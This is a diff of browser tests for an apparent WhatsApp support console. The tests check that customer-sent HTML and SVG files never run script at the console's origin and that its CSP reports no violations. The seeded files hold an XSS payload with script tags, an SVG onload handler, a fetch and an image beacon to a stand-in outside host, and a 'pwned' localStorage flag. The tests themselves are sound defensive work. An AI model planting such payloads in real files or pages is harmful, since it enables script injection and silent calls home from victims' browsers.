@@ -12,6 +12,7 @@ const NUMBER = '106540352242922';
 const TOKEN = `EAAG${NUMBER}secret`;
 const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64');
 let stack, edge, browser, page;
+const cspViolations = [];
 before(async () => {
   stack = await startStack();
   edge = stack.edge;
@@ -38,8 +39,19 @@ before(async () => {
   await edge.deliver(delivery(NUMBER, { contacts, messages: [mediaMessage('15145550501', 'image', { id: '910000000000004', mime_type: 'image/png' }, now - 5)] }));
   await new Promise((r) => setTimeout(r, 1500));
   stack.graph.failMedia(0);
+  // A hostile customer: an HTML "invoice" and an SVG "photo" that would call home and leave a
+  // flag at the console's origin if they ever ran there.
+  const home = stack.graph.elsewhere.base;
+  const payload = `fetch('${home}/called-home');localStorage.setItem('pwned','1');if(window.opener)window.opener.document.title='pwned';`;
+  stack.graph.addMedia({ id: '910000000000005', bytes: Buffer.from(`<html><body><img src="${home}/img-beacon"><script>${payload}</script></body></html>`), mime_type: 'text/html', token: TOKEN });
+  stack.graph.addMedia({ id: '910000000000006', bytes: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${payload}"><script>${payload}</script></svg>`), mime_type: 'image/svg+xml', token: TOKEN });
+  await edge.deliver(delivery(NUMBER, { contacts: [{ profile: { name: 'Hana Hostile' }, wa_id: '15145550502' }], messages: [
+    mediaMessage('15145550502', 'document', { id: '910000000000005', mime_type: 'text/html', filename: 'invoice.html' }, now - 4),
+    mediaMessage('15145550502', 'image', { id: '910000000000006', mime_type: 'image/svg+xml' }, now - 3),
+  ] }));
   browser = await launchBrowser();
   page = await (await browser.newContext({ viewport: { width: 1280, height: 1000 }, acceptDownloads: true })).newPage();
+  page.on('console', (m) => { if (/Content Security Policy|Refused to/.test(m.text())) cspViolations.push(m.text()); });
   await page.goto(`${edge.url}/console/`);
   await page.getByLabel('Admin token').fill(edge.secrets.ADMIN_TOKEN);
   await page.getByRole('button', { name: 'Sign in' }).click();
@@ -95,4 +107,33 @@ test('the agent attaches an image in the composer; WhatsApp receives the upload 
   assert.equal(sent.image.id, stack.graph.media.uploads.at(-1).id);
   await page.locator('.message.out', { hasText: 'Image' }).getByText('· sent').waitFor();
   await shot(page, 'console-attachment-sent');
+});
+
+test('under the console\'s CSP, pictures, players and the wasm itself work: no violation was reported', async () => {
+  assert.match((await page.evaluate(() => fetch('/console/').then((r) => r.headers.get('content-security-policy')))), /script-src 'self' 'wasm-unsafe-eval'/);
+  assert.deepEqual(cspViolations, []);
+});
+
+test('a customer\'s HTML document and SVG "photo" never run at the console\'s origin: opened, downloaded or forced into a tab', async () => {
+  await page.getByRole('button', { name: /Hana Hostile/ }).click();
+  const html = page.getByRole('link', { name: /Download invoice\.html/ });
+  const svg = page.getByRole('link', { name: /Download image file/ });
+  await html.waitFor();
+  await svg.waitFor();
+  for (const link of [html, svg]) {
+    const href = await link.getAttribute('href');
+    assert.match(href, /^blob:/);
+    assert.notEqual(await link.getAttribute('download'), null, 'a download, never a page');
+    assert.equal(await page.evaluate((h) => fetch(h).then((r) => r.blob()).then((b) => b.type), href), 'application/octet-stream');
+    // Clicking it downloads.
+    const [download] = await Promise.all([page.waitForEvent('download'), link.click()]);
+    assert.ok(download.suggestedFilename());
+    // Forcing it into a tab of its own still renders nothing.
+    await page.evaluate((h) => { window.open(h, '_blank'); }, href);
+  }
+  await new Promise((r) => setTimeout(r, 1500));
+  assert.equal(await page.evaluate(() => localStorage.getItem('pwned')), null, 'no script ran at the console\'s origin');
+  assert.notEqual(await page.title(), 'pwned');
+  assert.deepEqual(stack.graph.elsewhere.requests, [], 'nothing called home');
+  await shot(page, 'console-hostile-files');
 });
